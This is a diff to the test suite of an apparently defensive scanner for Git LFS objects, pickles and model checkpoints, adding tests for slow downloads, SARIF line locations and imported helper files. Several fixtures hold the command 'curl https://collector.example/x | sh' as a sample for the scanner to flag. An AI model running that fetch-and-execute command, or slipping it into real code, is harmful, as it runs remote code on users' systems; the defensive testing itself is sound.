@@ -3,6 +3,7 @@
 import hashlib
 import json
 import pickle
+import time
 import zipfile
 from collections.abc import Iterator
 from io import BytesIO
@@ -13,7 +14,7 @@ import pytest
 from scanner import pipeline
 from scanner.config import build
 from scanner.finding import Verdict
-from scanner.report import Scan, summary, text
+from scanner.report import Scan, sarif, summary, text
 from tests.collect.lfs import objects
 from tests.collect.lfs.objects import Store, storing
 from tests.fakes import Asked, Reply
@@ -106,8 +107,8 @@ def test_a_checkpoint_of_gigabytes_costs_kilobytes(
     assert report.size == large.stat().st_size > 3_150_000_000
     told = result.notices[-1].message
     transferred = int(told.split("bytes, ")[1].split(" ")[0].replace(",", ""))
-    assert 0 < transferred < 900_000
-    assert sum(asked.method == "GET" for asked in store.asked) < 340
+    assert 0 < transferred < 1_000_000
+    assert sum(asked.method == "GET" for asked in store.asked) < 400
     here = pipeline.scan(build(paths=[str(large)]))
     assert [(f.rule, f.message) for f in here.findings] == [(f.rule, f.message) for f in report.findings]
     assert report.verdict is (Verdict.BLOCKED if payload is BAD else Verdict.CLEAN)
@@ -146,6 +147,63 @@ def test_what_breaks_off_while_it_is_read_is_a_finding(
     assert {finding.rule for finding in report.findings} == {"incomplete-analysis"}
     assert says in report.findings[0].message
     assert report.verdict is not Verdict.CLEAN
+
+
+def test_waiting_for_the_network_is_not_held_against_the_file(repo: Path, store: Store) -> None:
+    content = checkpoint(BAD, tensors=1, size=1 << 20)
+    store.add(content)
+
+    def slowly(asked: Asked) -> Reply:
+        time.sleep(3)
+        return store.send(asked)
+
+    store.serve = slowly
+    commit(repo, {"large.pt": objects.text(content)})
+    result = scan(seconds=8)
+    assert sum(asked.method == "GET" for asked in store.asked) > 2
+    assert {finding.rule for finding in result.findings} == {"command-on-load"}
+
+
+def test_a_network_that_is_too_slow_is_named(
+    repo: Path, store: Store, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("scanner.collect.lfs.remote.PATIENCE", -1.0)
+    store.add(BAD)
+    commit(repo, {"bad.pkl": objects.text(BAD)})
+    (report,) = scan().reports
+    assert report.failure is None
+    (finding,) = report.findings
+    assert finding.rule == "incomplete-analysis"
+    assert "the network is too slow" in finding.message
+    assert report.verdict is not Verdict.CLEAN
+
+
+def test_what_is_taken_on_the_servers_word_is_told(repo: Path, store: Store) -> None:
+    content = checkpoint(BAD, tensors=1, size=1 << 20)
+    for each in (content, BAD):
+        store.add(each)
+    commit(repo, {"large.pt": objects.text(content), "bad.pkl": objects.text(BAD)})
+    told = "; the SHA-256 of 1 object, read in part, is taken on the server's word"
+    assert scan().notices[-1].message.endswith(told)
+
+
+def test_results_are_filed_on_the_line_that_a_change_of_the_object_touches(repo: Path, store: Store) -> None:
+    script = b"import os\n\n\n\nos.system('curl https://collector.example/x | sh')\n"
+    for content in (BAD, script):
+        store.add(content)
+    files = {"bad.pkl": objects.text(BAD), "x/load.py": objects.text(script), "plain.py": script}
+    commit(repo, files)
+    lines = set()
+    for found in json.loads(sarif.render(scan()))["runs"][0]["results"]:
+        flows = [
+            step["location"] for flow in found["codeFlows"] for step in flow["threadFlows"][0]["locations"]
+        ]
+        for place in (*found["locations"], *flows):
+            physical = place["physicalLocation"]
+            lines.add((physical["artifactLocation"]["uri"], physical["region"]["startLine"]))
+            assert physical["region"].get("endLine", 9) >= physical["region"]["startLine"]
+    assert {line for path, line in lines if path != "plain.py"} == {2}
+    assert ("plain.py", 5) in lines
 
 
 def test_a_file_that_only_resembles_a_pointer_is_scanned_as_it_is(repo: Path, store: Store) -> None:
@@ -247,3 +305,33 @@ def test_at_depth_1_with_pointers_in_the_work_tree(
     monkeypatch.chdir(here)
     assert verdicts(scan(base=base))["bad.pkl"] is Verdict.BLOCKED
     assert json.dumps(str(store.asked[0].body["operation"])) == '"download"'
+
+
+HELPER = b"import os\n\n\ndef fetch():\n    os.system('curl https://collector.example/x | sh')\n"
+IMPORTING = b"from helper import fetch\n\nfetch()\n"
+
+
+def test_a_file_beside_that_is_in_lfs_is_followed(repo: Path, store: Store) -> None:
+    store.add(HELPER)
+    commit(repo, {"helper.py": objects.text(HELPER)})
+    commit(repo, {"load.py": IMPORTING, "again.py": IMPORTING})
+    assert verdicts(scan()) == {"load.py": Verdict.BLOCKED, "again.py": Verdict.BLOCKED}
+    assert sum(asked.method == "POST" for asked in store.asked) == 1
+
+
+def test_a_file_beside_that_cannot_be_had_is_told(repo: Path, store: Store) -> None:
+    commit(repo, {"helper.py": objects.text(HELPER)})
+    commit(repo, {"load.py": IMPORTING})
+    result = scan()
+    (told,) = (notice for notice in result.notices if notice.path == "helper.py")
+    assert "has not pushed the object" in told.message
+    assert "has not pushed the object" in summary.render(result)
+
+
+def test_a_file_beside_that_is_too_large_is_not_read_in_part(repo: Path, store: Store) -> None:
+    large = HELPER + b"#" * (1 << 20)
+    store.add(large)
+    commit(repo, {"helper.py": objects.text(large)})
+    commit(repo, {"load.py": IMPORTING})
+    (report,) = scan().reports
+    assert (report.failure, report.verdict) == (None, Verdict.CLEAN)
